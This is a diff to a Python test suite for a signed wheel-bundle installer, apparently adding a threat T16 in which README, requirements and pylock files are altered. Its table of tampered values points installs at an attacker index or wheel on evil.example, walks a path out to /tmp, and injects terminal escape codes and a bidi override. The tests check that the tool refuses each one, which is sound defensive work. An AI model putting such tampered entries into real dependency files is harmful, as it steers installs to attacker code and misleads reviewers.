@@ -1,7 +1,7 @@
-"""Each threat of the design, T1 to T15, as an attack that is made for real: one class for each, named after it.
+"""Each threat of the design, T1 to T16, as an attack that is made for real: one class for each, named after it.
 
-T16, a dossier that says something else than the payload, has no test: there is no dossier yet. The dense sweeps over every bit and
-every length stand beside the code that they try (tests/unit/runtime); here are the attacks, and the large counts behind ``slow``.
+The dense sweeps over every bit and every length stand beside the code that they try (tests/unit/runtime); here are the attacks, and the
+large counts behind ``slow``.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ from typing import Any, Self
 import pytest
 
 from tests.data import DATA
-from tests.support import bundles, damaged
+from tests.support import attested, bundles, damaged
 from tests.support.bundles import FOREIGN, OURS, Draft, Key, draft, write_trust
 from tests.support.damaged import policy
 from tests.support.handmade import bundle_for
@@ -34,14 +34,16 @@ from tests.support.pip import bundled_pip
 from tests.support.wheels import make_wheel, wheel_members, write_zip
 from tests.support.workplace import this_target, workplace
 from wheelhouse_builder.runtime import memory, sshsig
+from wheelhouse_builder.runtime.attested import PREDICATES
 from wheelhouse_builder.runtime.bundle import verify
-from wheelhouse_builder.runtime.commands import Destination, run_install, run_unpack, run_verify
+from wheelhouse_builder.runtime.commands import Destination, run_inspect, run_install, run_unpack, run_verify
 from wheelhouse_builder.runtime.errors import BundleRefused, KeyFailure, SignatureRefused, WheelhouseError
 from wheelhouse_builder.runtime.host import this_host
 from wheelhouse_builder.runtime.layout import CHUNK_SIZE
 from wheelhouse_builder.runtime.manifest import canonical_json
 from wheelhouse_builder.runtime.moments import seconds
 from wheelhouse_builder.runtime.policy import read_trust
+from wheelhouse_builder.runtime.report import render
 from wheelhouse_builder.runtime.wheel import name_problem, wheel_problems
 
 ANN, BOB = Key(11), Key(12)
@@ -597,6 +599,137 @@ class TestT15NamesThatMeanSomethingElseElsewhere:
             document["control"].insert(1, {**document["control"][0], "path": "__MAIN__.py"})
 
         host.refuses(made.changed(twin).signed(OURS))
+
+
+WHEEL = attested.FILENAME
+VERDICT = {"publisher": attested.PUBLISHER, "predicates": [attested.PUBLISH]}
+TOLD = ["README.txt", "pylock.toml", "requirements.txt"]
+
+
+@dataclass(frozen=True, kw_only=True, slots=True)
+class Lie:
+    """What a file that people or other installers read says in place of the truth."""
+
+    file: str
+    old: bytes
+    new: bytes
+
+
+LIES = {
+    "another version": Lie(file="requirements.txt", old=b"demo==1.0", new=b"demo==6.6"),
+    "another digest": Lie(file="requirements.txt", old=b"sha256:", new=b"sha256:00"),
+    "another project": Lie(file="requirements.txt", old=b"demo==", new=b"dem0=="),
+    "an index beside the wheels": Lie(file="requirements.txt", old=b"demo==", new=b"--index-url https://evil.example/simple\ndemo=="),
+    "no digest": Lie(file="requirements.txt", old=b" --hash=", new=b" # --hash="),
+    "one more": Lie(file="requirements.txt", old=b"demo==", new=b"evil @ https://evil.example/evil-1.0-py3-none-any.whl\ndemo=="),
+    "a line end of another system": Lie(file="requirements.txt", old=b"\n", new=b"\r\n"),
+    "another version in the pylock": Lie(
+        file="pylock.toml", old=b'version = "1.0"\n\n[[packages.w', new=b'version = "6.6"\n\n[[packages.w'
+    ),
+    "another size": Lie(file="pylock.toml", old=b"size = ", new=b"size = 1"),
+    "a URL": Lie(file="pylock.toml", old=b'path = "../../wheels/', new=b'url = "https://evil.example/'),
+    "a path elsewhere": Lie(file="pylock.toml", old=b"../../wheels/", new=b"../../../../tmp/"),
+    "another Python": Lie(file="pylock.toml", old=b'requires-python = "==', new=b'requires-python = "!='),
+    "another digest in the pylock": Lie(file="pylock.toml", old=b'sha256 = "', new=b'sha256 = "0'),
+    "another bundle": Lie(file="README.txt", old=b"acme-web 2026.11\n", new=b"acme-web 2026.12\n"),
+    "another target": Lie(file="README.txt", old=b"cp3", new=b"cp9"),
+    "a target more": Lie(file="README.txt", old=b"2026.11\n", new=b"2026.11\ncp399-win_amd64\n"),
+    "what a terminal obeys": Lie(file="README.txt", old=b"2026.11\n", new=b"2026.11\n\x1b[2J\x1b[Hverified\n"),
+    "what no terminal shows": Lie(file="README.txt", old=b"2026.11\n", new="2026.11\n\u202e\n".encode()),
+}
+
+
+@pytest.fixture(scope="module")
+def parts(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[Path], Path]:
+    """A wheel, and the pip that installs it."""
+    folder = tmp_path_factory.mktemp("parts")
+    return [make_wheel(folder, "demo", "1.0")], make_wheel(folder, "pip", "26.3")
+
+
+class TestT16WhatPeopleReadSaysSomethingElse:
+    """A packer, or whoever took over a build host, signs one thing for machines and another for reviewers."""
+
+    @staticmethod
+    def refused_when_it_is_read(host: Host, data: bytes) -> str:
+        """What deep verification and unpacking say; nothing may be written."""
+        path = host.arrives(data)
+        with pytest.raises(BundleRefused) as caught:
+            run_verify(path, host.trust, state=host.state, deep=True)
+        with pytest.raises(BundleRefused):
+            host.unpack(data)
+        assert not (host.folder / "out").exists()
+        return "\n".join(caught.value.problems)
+
+    @staticmethod
+    def file_of(made: Draft, name: str) -> str:
+        """The payload path of README.txt or of a lock."""
+        return next(each["path"] for each in made.document["files"] if each["path"].rpartition("/")[2] == name)
+
+    @pytest.mark.parametrize("lie", LIES)
+    def test_a_lie_that_is_signed_is_found_out(self, host: Host, parts: tuple[list[Path], Path], lie: str) -> None:
+        honest = bundle_for(this_host(), *parts)
+        out = host.unpack(honest.signed(OURS))
+        path = self.file_of(honest, LIES[lie].file)
+        truth = (out / path).read_bytes()
+        shutil.rmtree(out)
+        told = truth.replace(LIES[lie].old, LIES[lie].new)
+        assert told != truth
+        dishonest = bundle_for(this_host(), *parts, retold={path: told})
+        assert self.refused_when_it_is_read(host, dishonest.signed(OURS)).startswith(f"{path}: ")
+
+    @pytest.mark.parametrize("name", TOLD)
+    def test_a_lie_that_is_not_signed_is_found_out_before_that(self, host: Host, parts: tuple[list[Path], Path], name: str) -> None:
+        honest = bundle_for(this_host(), *parts)
+        edited = bundle_for(this_host(), *parts, retold={self.file_of(honest, name): b"evil\n"})
+        host.refuses(replace(honest, payload=edited.payload).signed(OURS))
+
+    @pytest.mark.parametrize("name", TOLD)
+    def test_silence_is_a_lie_too(self, host: Host, parts: tuple[list[Path], Path], name: str) -> None:
+        path = self.file_of(bundle_for(this_host(), *parts), name)
+        self.refused_when_it_is_read(host, bundle_for(this_host(), *parts, retold={path: b""}).signed(OURS))
+
+    @pytest.mark.parametrize(
+        ("where", "told"),
+        [("version", "6.6"), ("version", "1.0.post1"), ("project", "other"), ("filename", "demo-6.6-py3-none-any.whl")],
+    )
+    def test_a_wheel_is_what_the_manifest_calls_it(self, host: Host, made: Draft, where: str, told: str) -> None:
+        host.refuses(made.changed(lambda document: document["distributions"][0].update({where: told})).signed(OURS))
+
+    @pytest.mark.parametrize(
+        "change", [{"interpreter": "cp39", "abi": "cp39"}, {"platforms": ["win_amd64", "any"]}, {"platforms": ["any"]}]
+    )
+    def test_a_target_is_what_it_is_called(self, host: Host, made: Draft, change: dict[str, Any]) -> None:
+        told = made.changed(lambda document: document["targets"][0].update(change)).signed(OURS)
+        assert "is the name of another target" in host.refuses(told)
+
+    @staticmethod
+    def attested_bundle(host: Host, verdict: dict[str, Any], document: bytes) -> bytes:
+        pip = make_wheel(host.folder / "made", "pip", "26.3")
+        return bundle_for(this_host(), [attested.PATH], pip, attested={WHEEL: (verdict, document)}).signed(OURS)
+
+    def test_a_true_verdict_is_shown_and_what_was_attested_is_there_for_an_auditor(self, host: Host) -> None:
+        data = self.attested_bundle(host, VERDICT, attested.DOCUMENT)
+        out = host.unpack(data)
+        assert (out / f"attestations/{WHEEL}.json").read_bytes() == attested.DOCUMENT
+        shown = run_inspect(host.arrives(data))
+        assert [each["attested"] for each in shown["distributions"]] == [VERDICT, None]
+        assert f"{attested.PUBLISHER}: {attested.PROJECT} {attested.VERSION}" in render(shown)
+
+    @pytest.mark.parametrize(
+        "verdict",
+        [{"publisher": "github.com/numpy/numpy"}, {"predicates": ["https://slsa.dev/provenance/v1"]}, {"predicates": sorted(PREDICATES)}],
+    )
+    def test_another_verdict_than_the_attestation_is_found_out(self, host: Host, verdict: dict[str, Any]) -> None:
+        told = self.refused_when_it_is_read(host, self.attested_bundle(host, {**VERDICT, **verdict}, attested.DOCUMENT))
+        assert "the manifest says otherwise" in told
+
+    @pytest.mark.parametrize("name", attested.MALFORMED)
+    def test_an_attestation_of_another_file_or_none_at_all_is_found_out(self, host: Host, name: str) -> None:
+        self.refused_when_it_is_read(host, self.attested_bundle(host, VERDICT, attested.MALFORMED[name]))
+
+    def test_a_verdict_without_an_attestation_is_refused(self, host: Host, made: Draft) -> None:
+        told = made.changed(lambda document: document["distributions"][0].update(attested=VERDICT))
+        assert "is missing" in host.refuses(told.signed(OURS))
 
 
 @pytest.mark.slow
